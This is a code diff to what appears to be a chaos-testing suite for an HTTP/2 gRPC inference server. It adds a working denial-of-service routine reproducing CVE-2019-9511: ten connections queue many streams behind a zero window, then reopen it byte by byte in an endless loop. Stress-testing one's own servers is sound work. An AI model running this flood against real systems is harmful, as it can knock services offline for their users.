@@ -2,7 +2,9 @@
 
 import itertools
 import struct
+import time
 from collections.abc import Iterator
+from contextlib import suppress
 from functools import partial
 
 from tests.chaos.attack import Target, attack
@@ -20,6 +22,7 @@ from tests.chaos.http2 import (
     PRIORITY,
     REFLECTION,
     RST_STREAM,
+    SERVER_METADATA,
     SETTINGS,
     again,
     call_block,
@@ -38,6 +41,7 @@ _CANCEL = (8).to_bytes(4, "big")
 _ONE_STREAM = [1]
 _UNKNOWN_TYPE = 0xBE
 _MANY_CONNECTIONS = 32
+_WAITING_CONNECTIONS, _TOGGLES, _TOGGLE_S = 10, 95, 0.02
 _STREAMS, _MESSAGES_OF_A_FRAME = 500, 16
 # ServerReflectionRequest.file_containing_symbol
 _SYMBOL = b"inference.GRPCInferenceService"
@@ -182,6 +186,29 @@ def window_settings(target: Target) -> None:
     """Each change is applied to all open streams."""
     opening = OPENING + on_streams(call_head(target), range(1, 2000, 2))
     flood(target, partial(again, window_setting(100) + window_setting(101), opening=opening))
+
+
+@attack(
+    "window-settings-waiting",
+    does="lets 1,000 answers wait on each of 10 connections, and opens all windows byte by byte",
+    stands_for="CVE-2019-9511; RFC 9113, section 6.9.2",
+)
+def window_settings_waiting(target: Target) -> None:
+    """A frame of 15 bytes lets each of them go on by a byte; as many as the rate of SETTINGS allows."""
+    call = call_head(target, SERVER_METADATA) + frame(DATA, END_STREAM, 1, framed(b""))
+    opening = OPENING + window_setting(0) + on_streams(call, range(1, 2000, 2))
+    while True:
+        with suppress(OSError):
+            connections = [target.connect() for _ in range(_WAITING_CONNECTIONS)]
+            for each in connections:
+                each.sendall(opening)
+            for number in range(_TOGGLES):
+                time.sleep(_TOGGLE_S)
+                for each in connections:
+                    each.sendall(window_setting(number + 1))
+                    target.sent_bytes += len(opening) // _TOGGLES
+            for each in connections:
+                each.close()
 
 
 @attack("pings", does="sends PING frames", stands_for="CVE-2019-9512, ping flood")
